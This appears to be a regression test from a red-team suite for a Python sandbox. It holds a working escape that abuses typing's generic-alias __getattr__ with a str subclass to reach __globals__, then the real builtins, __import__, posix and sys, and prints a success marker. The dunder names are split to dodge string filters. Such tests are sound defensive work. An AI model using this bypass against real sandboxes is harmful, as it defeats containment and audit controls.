# typing._BaseGenericAlias.__getattr__(attr) relays a name to the real getattr on its origin, in
# typing's frame, unless typing's _is_dunder(attr) says it is a dunder: attr.startswith('__') and
# attr.endswith('__'), i.e. methods of the name object. The job calls the harmless dunder
# __getattr__ of an alias it made (type(typing.List[int])(origin, args, name=...)) with a str
# subclass whose startswith() answers False: typing relays "__globals__" to getattr, which reads
# the subclass's characters. __globals__ raises no audit event, so the hook never sees it; the
# guard's own getattr refuses str subclasses, but the name never reaches it. A library function's
# __globals__ holds the real builtins, whose __import__ gives the real posix/os/sys.
# Found by a fifth red-team review (strict policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "147_typing_alias_str_subclass_dunder"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import heapq
import typing

Alias = type(typing.List[int])


class Name(str):
    def startswith(self, *args):
        return False


def read(obj, name):
    return Alias(obj, (int,), name="x").__getattr__(Name(name))


glb = read(heapq.merge, "__glo" + "bals__")  # heapq's real module globals
real_builtins = glb["__buil" + "tins__"]
real_import = real_builtins["__imp" + "ort__"]
posix = real_import("posix")
real_sys = real_import("sys")
won("posix.getpid()=%s real_sys_has_modules=%s os_in_modules=%s" % (
    posix.getpid(), "modules" in dir(real_sys), "os" in real_sys.modules))
